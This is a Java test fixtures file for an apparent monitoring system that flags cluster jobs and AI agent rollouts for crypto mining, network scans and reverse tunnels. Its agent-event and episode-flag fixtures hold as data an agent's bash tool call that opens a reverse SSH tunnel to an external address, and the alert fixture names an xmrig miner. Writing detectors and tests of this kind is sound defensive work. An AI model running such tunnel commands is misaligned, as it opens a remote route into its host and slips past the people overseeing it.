package io.vigil.records;

import java.nio.ByteBuffer;
import java.time.Duration;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.avro.specific.SpecificRecord;

/**
 * Valid canonical records and the instants they happen at, for tests in this module and (later) others.
 * Every factory returns a fresh record that passes its type's domain checks; the {@code ...Builder()}
 * variants return the same values as a builder, so a test can change just the field it is about.
 */
public final class Fixtures {
    private Fixtures() {}

    /** When the story starts: the first window opens and the job's assignment begins. */
    public static final Instant BEGINNING = Instant.parse("2026-02-14T03:00:00Z");

    public static final Instant ONE_MINUTE_LATER = BEGINNING.plus(Duration.ofMinutes(1));
    public static final Instant FIVE_MINUTES_LATER = BEGINNING.plus(Duration.ofMinutes(5));

    public static final String NODE = "gpu-node-07";
    public static final String JOB = "job-42";
    public static final String POD = "team-vision/trainer-0";
    /** The job's pod address, the source of its flows. */
    public static final String POD_IP = "10.0.3.17";
    /** An address outside the cluster (TEST-NET-3). */
    public static final String EXTERNAL_IP = "203.0.113.9";

    // ---- input records ----

    /** One TCP connection of the job's pod to an external address, reported a minute after it began. */
    public static Flow flow() {
        return flowBuilder().build();
    }

    public static Flow flow(String srcIp, String dstIp, long origBytes) {
        return flowBuilder()
                .setSrcIp(srcIp)
                .setDstIp(dstIp)
                .setOrigBytes(origBytes)
                .build();
    }

    public static Flow.Builder flowBuilder() {
        return Flow.newBuilder()
                .setTs(ONE_MINUTE_LATER)
                .setStartTs(BEGINNING)
                .setNode(NODE)
                .setJobId(JOB)
                .setSrcIp(POD_IP)
                .setDstIp(EXTERNAL_IP)
                .setSrcPort(51514)
                .setDstPort(443)
                .setProtocol("TCP")
                .setOrigBytes(123_456)
                .setRespBytes(7_890)
                .setOrigPkts(120)
                .setRespPkts(80)
                .setConnState("SF");
    }

    /** GPU 3 of the node, busy, with two compute processes on it. */
    public static GpuSample gpuSample() {
        return gpuSampleBuilder().build();
    }

    public static GpuSample.Builder gpuSampleBuilder() {
        return GpuSample.newBuilder()
                .setTs(BEGINNING)
                .setNode(NODE)
                .setGpu(3)
                .setGpuUuid("GPU-5c1b7e6a-0f3d-4c1e-9a77-2b9d4e8f1a20")
                .setJobId(JOB)
                .setPod(POD)
                .setUtil(97.5)
                .setSmActive(0.91)
                .setTensorActive(0.62)
                .setDramActive(0.4)
                .setFbUsedMib(71_234L)
                .setPowerW(612.5)
                .setTempC(71.0)
                .setSmClockMhz(1980)
                .setProcesses(List.of(gpuProcess(4242, "python", 70_000), gpuProcess(4300, "nccl-watch", 512)));
    }

    public static GpuProcess gpuProcess(long pid, String name, long usedMib) {
        return GpuProcess.newBuilder()
                .setPid(pid)
                .setName(name)
                .setUsedMib(usedMib)
                .build();
    }

    /** The job takes its pod, the pod's IP and four GPUs, with scheduler labels. */
    public static Assignment assignment() {
        return assignmentBuilder().build();
    }

    public static Assignment.Builder assignmentBuilder() {
        Map<String, String> labels = new LinkedHashMap<>();
        labels.put("team", "vision");
        labels.put("image", "registry.example/trainer:1.4");
        labels.put("kind", "pretrain");
        return Assignment.newBuilder()
                .setTs(BEGINNING)
                .setEvent(AssignmentEvent.START)
                .setJobId(JOB)
                .setNode(NODE)
                .setPod(POD)
                .setIp(POD_IP)
                .setGpus(List.of(0, 1, 2, 3))
                .setLabels(labels);
    }

    public static AgentEvent agentEvent() {
        return agentEventBuilder().build();
    }

    /** The agent's tool call that opens a reverse tunnel, two seconds after the job started. */
    public static AgentEvent.Builder agentEventBuilder() {
        return AgentEvent.newBuilder()
                .setTs(BEGINNING.plusMillis(2_500))
                .setStartTs(BEGINNING.plusMillis(2_000))
                .setJobId(JOB)
                .setEpisodeId("episode-0017")
                .setStep(12L)
                .setRolloutWorker(POD)
                .setNode(NODE)
                .setTool("bash")
                .setCommand("ssh -f -N -R 2222:localhost:22 agent@" + EXTERNAL_IP)
                .setExitCode(0)
                .setSandbox(null);
    }

    // ---- records Vigil writes ----

    /** The job's first five minutes flagged as mining: an incident opens, with the features and flows behind it. */
    public static Alert alert() {
        return alertBuilder().build();
    }

    public static Alert.Builder alertBuilder() {
        return Alert.newBuilder()
                .setAlertId("alert-job-42-20260214T0300-iforest-v3")
                .setIncidentId("incident-job-42-crypto-1")
                .setJobId(JOB)
                .setWindowStart(BEGINNING)
                .setWindowEnd(FIVE_MINUTES_LATER)
                .setScore(0.93)
                .setThreshold(0.7)
                .setSeverity(Severity.HIGH)
                .setCategories(List.of(Category.CRYPTO_MINING, Category.NETWORK_SCAN))
                .setModelVersion("iforest-v3")
                .setReasons(List.of(
                        Reason.newBuilder()
                                .setFeature("gpu_util_without_tensor")
                                .setValue(0.97)
                                .setJobBaseline(0.2)
                                .setFleetBaseline(0.15)
                                .setWeight(0.6)
                                .build(),
                        Reason.newBuilder()
                                .setFeature("distinct_external_ips")
                                .setValue(41.0)
                                .setJobBaseline(null)
                                .setFleetBaseline(3.0)
                                .setWeight(0.4)
                                .build()))
                .setEvidence(Evidence.newBuilder()
                        .setDestinations(List.of(Destination.newBuilder()
                                .setIp("198.51.100.23")
                                .setPort(3333)
                                .setProtocol("TCP")
                                .setExternal(true)
                                .setBytes(1_234_567)
                                .setFlows(40)
                                .setUnanswered(2)
                                .build()))
                        .setProcesses(List.of(ProcessEvidence.newBuilder()
                                .setName("xmrig")
                                .setGpus(List.of(0, 1))
                                .setMaxUsedMib(2_048)
                                .build()))
                        .setFlowCount(312)
                        .setSampleCount(60)
                        .build())
                .setIncidentState(IncidentState.OPEN)
                .setTransitionCauses(List.of())
                .setFirstWindowStart(BEGINNING)
                .setLastWindowEnd(FIVE_MINUTES_LATER)
                .setClosedAt(null)
                .setFlaggedWindows(1)
                .setPeakScore(0.93)
                .setPeakSeverity(Severity.HIGH)
                .setIncidentCategories(List.of(Category.CRYPTO_MINING, Category.NETWORK_SCAN))
                .setJoinedCategories(List.of(Category.CRYPTO_MINING, Category.NETWORK_SCAN));
    }

    /** The job's first five-minute window: features, score, flagged, and labelled malicious. */
    public static JobWindow jobWindow() {
        return jobWindowBuilder().build();
    }

    public static JobWindow.Builder jobWindowBuilder() {
        Map<String, Double> features = new LinkedHashMap<>();
        features.put("gpu_util_mean", 97.1);
        features.put("tensor_active_mean", 0.05);
        features.put("external_bytes", 1.2e7);
        return JobWindow.newBuilder()
                .setJobId(JOB)
                .setWindowStart(BEGINNING)
                .setWindowEnd(FIVE_MINUTES_LATER)
                .setFeatureSet("v1-3fa2c1d0")
                .setFeatures(features)
                .setFlowCount(312)
                .setSampleCount(60)
                .setScore(0.93)
                .setThreshold(0.7)
                .setFlagged(true)
                .setCategories(List.of(Category.CRYPTO_MINING))
                .setModelVersion("iforest-v3")
                .setLabel(WindowLabel.newBuilder()
                        .setMalicious(true)
                        .setCategory(Category.CRYPTO_MINING)
                        .setIncident("incident-7")
                        .setSource("labels.json")
                        .build());
    }

    /** The bytes of a Kafka message no framing could read. */
    public static final byte[] UNREADABLE_BYTES = {(byte) 0xC3, 0x01, 0x00, (byte) 0xFF, 0x7F, 0x10};

    /** A binary flow message that could not be decoded, with its original bytes and event time. */
    public static DeadLetter deadLetter() {
        return deadLetterBuilder().build();
    }

    public static DeadLetter.Builder deadLetterBuilder() {
        return DeadLetter.newBuilder()
                .setRecordType("flow")
                .setReason(RejectReason.UNDECODABLE.code())
                .setField(null)
                .setDetail("written with a schema this reader does not know")
                .setSource("flows/3@1042")
                .setEventTs(BEGINNING)
                .setOriginalText(null)
                .setOriginalBytes(ByteBuffer.wrap(UNREADABLE_BYTES.clone()));
    }

    /** A valid record of any type, the same one the type's own factory above returns. */
    public static EpisodeFlag episodeFlag() {
        return EpisodeFlag.newBuilder()
                .setFlagId("3f1c2a9e-0d6b-3c41-9a57-2b8e4f6d1a10")
                .setIncidentId("9b2f7c1e-5a4d-3e8f-b6c2-1d0a9e8f7b6c")
                .setAlertId("c4e8a2f6-1b3d-3a5c-8e7f-0a2b4c6d8e1f")
                .setJobId(JOB)
                .setEpisodeId("ep-1207")
                .setRolloutWorker("rollout-3")
                .setRank(1)
                .setFlaggedAt(FIVE_MINUTES_LATER)
                .setCategories(List.of(Category.NETWORK_SCAN, Category.REVERSE_TUNNEL))
                .setReason("tool call started 1.8 s before the first packet to 203.0.113.9:22; command contains ssh -R")
                .setCalls(List.of(FlaggedCall.newBuilder()
                        .setStep(14L)
                        .setTool("bash")
                        .setCommand("ssh -f -N -R 2222:localhost:22 agent@203.0.113.9 -i [hidden]")
                        .setStartTs(ONE_MINUTE_LATER)
                        .setEndTs(ONE_MINUTE_LATER.plusMillis(400))
                        .setReason("tool call started 1.8 s before the first packet to 203.0.113.9:22")
                        .build()))
                .build();
    }

    public static <T extends SpecificRecord> T sample(RecordType<T> type) {
        Object record = switch (type.name()) {
            case "flow" -> flow();
            case "gpu" -> gpuSample();
            case "assignment" -> assignment();
            case "agent-event" -> agentEvent();
            case "alert" -> alert();
            case "window" -> jobWindow();
            case "deadletter" -> deadLetter();
            case "episode-flag" -> episodeFlag();
            default -> throw new IllegalArgumentException("no fixture for record type " + type);
        };
        return type.recordClass().cast(record);
    }
}
